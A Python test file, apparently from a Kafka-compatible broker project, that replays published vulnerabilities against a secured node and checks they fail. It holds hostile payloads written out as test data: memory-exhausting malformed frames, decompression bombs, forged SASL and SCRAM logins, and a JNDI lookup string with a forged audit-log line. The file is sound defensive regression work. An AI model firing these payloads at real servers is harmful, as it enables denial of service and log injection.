"""Published vulnerabilities of Kafka and its relatives, tried on a secured node.

docs/security.md has the whole table, with these tests and others. Each one here does what its
advisory describes, over the wire, and looks for the harm as well as for the refusal.
"""

from __future__ import annotations

import asyncio
import json
import logging
import struct
import subprocess
import sys
import time
import tracemalloc
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from penstock.app.node import Node
from penstock.model.errors import ErrorCode
from penstock.model.operations import Operation
from penstock.model.resources import PatternType, Permission, ResourceType
from penstock.protocol.api_keys import ApiKey
from penstock.protocol.generated import create_acls, delete_acls, fetch
from penstock.protocol.generated.add_offsets_to_txn import AddOffsetsToTxnRequest
from penstock.protocol.generated.add_partitions_to_txn import (
    AddPartitionsToTxnRequest,
    AddPartitionsToTxnTopic,
)
from penstock.protocol.generated.api_versions import ApiVersionsRequest
from penstock.protocol.generated.end_txn import EndTxnRequest
from penstock.protocol.generated.init_producer_id import InitProducerIdRequest
from penstock.protocol.generated.produce import (
    PartitionProduceData,
    ProduceRequest,
    TopicProduceData,
)
from penstock.protocol.generated.sasl_authenticate import SaslAuthenticateRequest
from penstock.protocol.generated.sasl_handshake import SaslHandshakeRequest
from penstock.security.own_login import ScramCredentials, Slow
from penstock.security.scram_keys import BY_NAME
from tests.oracle.nodes import REPOSITORY
from tests.unit.security.entering import entered, knocking, secured, secured_node, show
from tests.unit.server.asking import Asker, batch, question

ALICE, MALLORY = ("alice", "alice-secret"), ("mallory", "mallory-secret")
STRANGERS_FRAME_BYTES = 400_000
"""Below sasl.server.max.receive.size: what who has not logged in may send at once."""


@pytest_asyncio.fixture
async def node(tmp_path: Path) -> AsyncIterator[Node]:
    """A node that asks for logins and rights, with a topic that alice may read and write."""
    settings = secured("SASL_PLAINTEXT", dict((ALICE, MALLORY)))
    async with secured_node(tmp_path, settings) as running:
        async with entered(running) as admin:
            await admin.create("t")
            await _allow(admin, "alice", Operation.READ, Operation.WRITE)
            await _allow(admin, "mallory", Operation.READ)
        yield running


def _entry(
    user: str, operation: Operation, permission: Permission = Permission.ALLOW, name: str = "t"
) -> create_acls.AclCreation:
    return create_acls.AclCreation(
        resource_type=int(ResourceType.TOPIC),
        resource_name=name,
        resource_pattern_type=int(PatternType.LITERAL),
        principal=f"User:{user}",
        host="*",
        operation=int(operation),
        permission_type=int(permission),
    )


async def _create(admin: Asker, *entries: create_acls.AclCreation) -> None:
    made = await admin.ask(create_acls.CreateAclsRequest(creations=list(entries)), 3)
    assert [each.error_code for each in made.results] == [ErrorCode.NONE] * len(entries)


async def _allow(admin: Asker, user: str, *operations: Operation) -> None:
    await _create(admin, *(_entry(user, operation) for operation in operations))


async def _closed(asker: Asker) -> bool:
    try:
        await asker.receive(int(ApiKey.API_VERSIONS), 0)
    except (asyncio.IncompleteReadError, ConnectionError):
        return True
    return False


# -- memory before a login ------------------------------------------------------------------------


def _head(key: ApiKey, version: int, tags: bytes = b"\x00") -> bytes:
    return struct.pack(">hhih", key, version, 1, -1) + tags


def _framed(body: bytes) -> bytes:
    return struct.pack(">i", len(body)) + body


MANY_TAGS = b"\xff\xff\x0b"  # so many that two bytes for each fill the frame
HOSTILE = {
    # CVE-2022-34917: a count says how much to allocate, before anything is there to be counted.
    "count": _framed(_head(ApiKey.METADATA, 12) + b"\xff\xff\xff\xff\x07" + bytes(100)),
    "old count": _framed(_head(ApiKey.METADATA, 1, b"") + b"\x7f\xff\xff\xff" + bytes(100)),
    # Envoy's issue 45859 and Redpanda's pull request 30160: so does the size of a tagged field.
    "tag size": _framed(_head(ApiKey.API_VERSIONS, 4, b"\x01\x00\xff\xff\xff\xff\x07") + bytes(99)),
    "tag count": _framed(_head(ApiKey.API_VERSIONS, 4, b"\xff\xff\xff\xff\x07") + bytes(99)),
    "many tags": _framed(
        _head(ApiKey.API_VERSIONS, 4, MANY_TAGS + bytes(2 * 196_607)) + b"\x01\x01\x00"
    ),
    "body tags": _framed(
        _head(ApiKey.API_VERSIONS, 4) + b"\x01\x01" + MANY_TAGS + bytes(2 * 196_607)
    ),
    "token": question(SaslAuthenticateRequest(auth_bytes=bytes(STRANGERS_FRAME_BYTES)), 2),
    "mechanism": question(SaslHandshakeRequest(mechanism="x" * 32_000), 1),
    "client id": _framed(struct.pack(">hhih", 18, 0, 1, 32_000) + bytes(32_000)),
    "huge frame": struct.pack(">i", 100 << 20) + bytes(STRANGERS_FRAME_BYTES),
}
PEAK_BASE = 1 << 20
PEAK_PER_BYTE = 8
CPU_SECONDS_MAX = 0.05


async def test_a_strangers_frame_takes_no_more_memory_than_a_few_times_its_bytes(
    node: Node,
) -> None:
    """The bound: one megabyte and eight bytes for each byte that really came."""
    for what, frame in HOSTILE.items():
        async with knocking(node) as asker:
            await asker.ask(ApiVersionsRequest(), 0)  # all is imported
            peak = await _peak(asker, frame)
        allowed = PEAK_BASE + PEAK_PER_BYTE * len(frame)
        assert peak <= allowed, f"{what}: {peak} bytes of memory for {len(frame)}"
    async with entered(node) as admin:
        assert (await admin.produce("t", batch())).error_code == ErrorCode.NONE


async def _peak(asker: Asker, frame: bytes) -> int:
    """How much memory a frame took until it was answered, or its connection closed."""
    tracemalloc.start()
    try:
        await _answered(asker, frame)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


async def _answered(asker: Asker, frame: bytes) -> None:
    asker._writer.write(frame)
    try:
        async with asyncio.timeout(5):
            await asker._writer.drain()
            await asker._reader.readexactly(8)
    except (asyncio.IncompleteReadError, ConnectionError):
        pass  # closed is an answer too


async def test_a_strangers_frame_holds_nobody_up(node: Node) -> None:
    """The bound counts the processor's time, and that of the client, which is this thread too."""
    for what, frame in HOSTILE.items():
        async with knocking(node) as asker:
            await asker.ask(ApiVersionsRequest(), 0)
            began = time.thread_time()
            await _answered(asker, frame)
            assert time.thread_time() - began < CPU_SECONDS_MAX, what


async def test_who_has_not_logged_in_cannot_announce_a_large_frame(node: Node) -> None:
    async with knocking(node) as asker:
        asker._writer.write(struct.pack(">i", (512 << 10) + 1))
        assert await _closed(asker)


@pytest.mark.parametrize("codec", ["gzip", "snappy", "xerial", "lz4", "zstd"])
def test_a_decompression_bomb_stops_at_its_bound(codec: str) -> None:
    """CVE-2023-34455 and CVE-2023-43642 in snappy, and the same for the others: 256 MB, bound 8."""
    ran = subprocess.run(
        [sys.executable, "-c", _BOMB, codec], cwd=REPOSITORY, capture_output=True, text=True
    )
    assert ran.returncode == 0, ran.stderr
    grown_mb = int(ran.stdout)
    assert grown_mb < 48, f"{grown_mb} MB for a bound of 8"


_BOMB = """
import gzip, resource, struct, sys
import cramjam
from penstock.records.compression import DecompressedTooLarge, DecompressionFailed, decompress
codec = sys.argv[1]
plain, piece = bytes(256 << 20), bytes(8 << 20)
if codec == "gzip":
    number, packed = 1, gzip.compress(plain, 1)
elif codec == "snappy":
    number, packed = 2, bytes(cramjam.snappy.compress_raw(plain))
elif codec == "xerial":  # CVE-2023-34455: the length of a chunk decides; and many make a bomb too
    chunk = bytes(cramjam.snappy.compress_raw(piece))
    number = 2
    packed = b"\\x82SNAPPY\\0" + struct.pack(">ii", 1, 1)
    packed += (struct.pack(">i", len(chunk)) + chunk) * 32
elif codec == "lz4":
    number, packed = 3, bytes(cramjam.lz4.compress(plain))
else:
    number, packed = 4, bytes(cramjam.zstd.compress(plain))
del plain, piece
def high_water():
    with open("/proc/self/status") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmHWM")) >> 10
def now():
    with open("/proc/self/status") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmRSS")) >> 10
with open("/proc/self/clear_refs", "w") as file:
    file.write("5")  # the high water mark begins anew
before = now()
try:
    decompress(number, packed, 8 << 20)
    sys.exit("it was unpacked")
except DecompressedTooLarge:
    pass
print(max(0, high_water() - before))
"""


async def test_telemetry_is_not_taken_at_all(node: Node) -> None:
    """KAFKA-21076: what clients push is unpacked without a bound. Nothing here unpacks it."""
    async with entered(node) as admin:
        me = ApiVersionsRequest(client_software_name="x", client_software_version="1")
        offered = await admin.ask(me, 3)
        keys = {each.api_key for each in offered.api_keys}
        telemetry = {ApiKey.GET_TELEMETRY_SUBSCRIPTIONS, ApiKey.PUSH_TELEMETRY}
        assert ApiKey.PRODUCE in keys and not telemetry & keys
        admin._writer.write(_framed(_head(ApiKey.PUSH_TELEMETRY, 0) + bytes(100)))
        assert await _closed(admin)


# -- who one is -----------------------------------------------------------------------------------


async def test_nobody_logs_in_as_somebody_else(node: Node) -> None:
    """CVE-2017-12610: the authorization id was believed."""
    for mechanism, message in (
        ("PLAIN", b"admin\0mallory\0mallory-secret"),
        ("SCRAM-SHA-256", b"n,a=admin,n=mallory,r=abcdefgh"),
        ("SCRAM-SHA-512", b"n,a=admin,n=mallory,r=abcdefgh"),
    ):
        async with knocking(node) as asker:
            answer = await show(asker, mechanism, message)
            assert answer.error_code == ErrorCode.SASL_AUTHENTICATION_FAILED
            assert await _closed(asker)


async def test_a_nonce_that_is_not_of_this_exchange_is_refused(node: Node) -> None:
    """CVE-2024-56128: the last message was not held against the nonce that the server chose.

    The proof itself is right, over whatever the message says.
    """
    async with entered(node) as admin:
        assert await _set_password(admin, "carol", "carol-secret") == ErrorCode.NONE
    for change in ("none", "the client's", "another", "longer"):
        answer = await _with_nonce(node, change)
        expected = ErrorCode.SASL_AUTHENTICATION_FAILED if change != "none" else ErrorCode.NONE
        assert answer.error_code == expected, change


async def _with_nonce(node: Node, change: str) -> Any:
    """Log in with the right password and a changed nonce, as if the server had sent that."""
    kind = BY_NAME["SCRAM-SHA-256"]
    client = ScramCredentials(kind, "carol", "carol-secret").begin(b"n" * 18)
    said = client.step(b"")
    assert isinstance(said, bytes)
    async with knocking(node) as asker:
        text = (await show(asker, kind.name, said)).auth_bytes.decode()
        ours, whole = client._nonce, text[2:].partition(",")[0]
        others = {"the client's": ours, "another": ours + "A" * 32, "longer": whole + "A"}
        if change == "the client's":
            client._nonce = ours[:-1]  # or our own client would refuse to go on
        slow = client.step(text.replace(whole, others.get(change, whole)).encode())
        assert isinstance(slow, Slow)
        return await asker.ask(SaslAuthenticateRequest(auth_bytes=slow.then(slow.run())), 2)


async def _set_password(admin: Asker, user: str, password: str, iterations: int = 4096) -> int:
    from penstock.protocol.generated import alter_user_scram_credentials as scrams
    from penstock.security.scram_keys import salted

    kind = BY_NAME["SCRAM-SHA-256"]
    made = salted(kind, password, b"salt" * 8, min(max(iterations, 1), 20_000))
    upsertion = scrams.ScramCredentialUpsertion(
        name=user,
        mechanism=kind.number,
        iterations=iterations,
        salt=b"salt" * 8,
        salted_password=made,
    )
    request = scrams.AlterUserScramCredentialsRequest(upsertions=[upsertion])
    error: int = (await admin.ask(request, 0)).results[0].error_code
    return error


async def test_nobody_chooses_how_long_a_login_takes(node: Node) -> None:
    """GHSA-2jcm-hq8r-84wx had it on the other side: who names the iterations names the work."""
    async with entered(node) as admin:
        for iterations in (-1, 0, 1, 4095, 16_385, 2**31 - 1):
            error = await _set_password(admin, "carol", "carol-secret", iterations)
            assert error == ErrorCode.UNACCEPTABLE_CREDENTIAL, iterations


async def test_an_unknown_user_cannot_be_told_from_a_wrong_password(node: Node) -> None:
    async with entered(node) as admin:
        assert await _set_password(admin, "carol", "carol-secret") == ErrorCode.NONE
    answers = []
    for user in ("carol", "nobody"):
        async with knocking(node) as asker:
            answers.append(await show(asker, "PLAIN", f"\0{user}\0wrong".encode()))
    assert answers[0] == answers[1]


COMPARED_IN_CONSTANT_TIME = ("scram.py", "plain.py", "own_login.py", "tokens.py")


@pytest.mark.parametrize("name", COMPARED_IN_CONSTANT_TIME)
def test_secrets_are_compared_in_constant_time(name: str) -> None:
    """CVE-2021-38153: how long a comparison took told how much of a secret was right."""
    import ast

    tree = ast.parse((REPOSITORY / "src/penstock/security" / name).read_text())
    calls = [it for it in ast.walk(tree) if isinstance(it, ast.Attribute)]
    assert any(call.attr == "compare_digest" for call in calls)
    secrets = {"proof", "hmac", "stored_key", "server_key", "password", "signature", "shown"}
    for each in ast.walk(tree):
        if isinstance(each, ast.Compare) and isinstance(each.ops[0], ast.Eq | ast.NotEq):
            sides = {_last_name(side) for side in (each.left, *each.comparators)}
            assert not sides & secrets, f"{name}:{each.lineno} compares {sides} in varying time"


def _last_name(side: Any) -> str:
    return str(getattr(side, "attr", getattr(side, "id", "")))


# -- what one may do ------------------------------------------------------------------------------


async def test_a_forged_follower_fetch_moves_nothing(node: Node) -> None:
    """CVE-2018-1288: who may read a topic asked as if they were a replica."""
    async with entered(node, *ALICE) as alice:
        assert (await alice.produce("t", batch(3))).error_code == ErrorCode.NONE
    partition = node.broker.hosted["t", 0]
    before = partition.log.high_watermark
    topic_id = node.broker.image.topics.by_name["t"].id
    async with entered(node, *MALLORY) as mallory:
        assert _records(await mallory.ask(_fetch(topic_id, -1, 17), 17)), "mallory may read"
        for version in (11, 14, 15, 17):
            answer = await mallory.ask(_fetch(topic_id, 1, version), version)
            errors = {part.error_code for each in answer.responses for part in each.partitions}
            assert {answer.error_code, *errors} - {ErrorCode.NONE}, "answered as a replica's"
            assert not _records(answer)
    assert partition.log.high_watermark == before


def _fetch(topic_id: bytes, replica: int, version: int) -> fetch.FetchRequest:
    wanted = fetch.FetchPartition(partition=0, fetch_offset=2, partition_max_bytes=1 << 20)
    topic = fetch.FetchTopic(partitions=[wanted])
    if version < 13:
        topic.topic = "t"
    else:
        topic.topic_id = topic_id
    request = fetch.FetchRequest(max_bytes=1 << 20, session_epoch=-1, topics=[topic])
    if version < 15:
        request.replica_id = replica
    else:
        request.replica_state = fetch.ReplicaState(replica_id=replica, replica_epoch=-1)
    return request


def _records(answer: Any) -> bool:
    return any(part.records for each in answer.responses for part in each.partitions)


async def test_transactions_are_only_for_who_may_have_them(node: Node) -> None:
    """CVE-2018-17196: a request made by hand wrote transactionally without the right to."""
    records = batch(producer_id=7, producer_epoch=0, base_sequence=0, transactional=True)
    produce = ProduceRequest(
        transactional_id="payments",
        acks=-1,
        timeout_ms=1000,
        topic_data=[
            TopicProduceData(
                name="t",
                partition_data=[PartitionProduceData(index=0, records=memoryview(records))],
            )
        ],
    )
    topic = AddPartitionsToTxnTopic(name="t", partitions=[0])
    common = {"producer_id": 7, "producer_epoch": 0}
    refused = ErrorCode.TRANSACTIONAL_ID_AUTHORIZATION_FAILED
    async with entered(node, *ALICE) as alice:
        written = (await alice.ask(produce, 9)).responses[0].partition_responses[0]
        assert written.error_code == refused
        begun = InitProducerIdRequest(transactional_id="payments", transaction_timeout_ms=1000)
        assert (await alice.ask(begun, 4)).error_code == refused
        added = AddPartitionsToTxnRequest(
            v3_and_below_transactional_id="payments",
            v3_and_below_producer_id=7,
            v3_and_below_topics=[topic],
        )
        results = (await alice.ask(added, 3)).results_by_topic_v3_and_below
        assert {p.partition_error_code for t in results for p in t.results_by_partition} == {
            refused
        }
        offsets = AddOffsetsToTxnRequest(transactional_id="payments", group_id="g", **common)
        assert (await alice.ask(offsets, 3)).error_code == refused
        ended = EndTxnRequest(transactional_id="payments", committed=True, **common)
        assert (await alice.ask(ended, 3)).error_code == refused
    assert node.broker.hosted["t", 0].log.high_watermark == 0


async def test_taking_one_entry_away_leaves_the_others(node: Node) -> None:
    """CVE-2024-27309: of several entries of a resource one was left when another was removed."""
    denied = _entry("alice", Operation.WRITE, Permission.DENY)
    async with entered(node) as admin:
        await _create(admin, denied, _entry("*", Operation.WRITE), _entry("bob", Operation.WRITE))
        removed = delete_acls.DeleteAclsFilter(
            resource_type_filter=int(ResourceType.TOPIC),
            resource_name_filter="t",
            pattern_type_filter=int(PatternType.LITERAL),
            principal_filter="User:bob",
            host_filter="*",
            operation=int(Operation.WRITE),
            permission_type=int(Permission.ALLOW),
        )
        answer = await admin.ask(delete_acls.DeleteAclsRequest(filters=[removed]), 3)
        assert len(answer.filter_results[0].matching_acls) == 1
    async with entered(node, *ALICE) as alice:
        refused = await alice.produce("t", batch())
        assert refused.error_code == ErrorCode.TOPIC_AUTHORIZATION_FAILED
    async with entered(node, *MALLORY) as mallory:
        assert (await mallory.produce("t", batch())).error_code == ErrorCode.NONE


# -- logs -----------------------------------------------------------------------------------------


async def test_what_clients_say_is_text_in_the_log_and_never_a_second_line(
    node: Node, caplog: pytest.LogCaptureFixture
) -> None:
    """CVE-2021-44228 and its kin: a log that looks into what it writes; and forged lines."""
    caplog.set_level(logging.DEBUG)
    evil = '${jndi:ldap://x/a} %s %n {0} "\n{"event": "logged in", "principal": "User:admin"}'
    async with knocking(node) as asker:
        answer = await asker.ask(SaslHandshakeRequest(mechanism=evil), 1)
        assert answer.error_code == ErrorCode.UNSUPPORTED_SASL_MECHANISM
    async with knocking(node) as asker:
        await show(asker, "PLAIN", f"\0{evil}\0x".encode())
    lines = [it.getMessage() for it in caplog.records if it.name == "penstock.audit"]
    failed = [json.loads(line) for line in lines if "login failed" in line]
    assert {evil} <= {it["mechanism"] for it in failed} | {it["principal"] for it in failed}
    assert not any("\n" in line for line in lines)
    assert not any(json.loads(line)["event"] == "logged in" for line in lines)
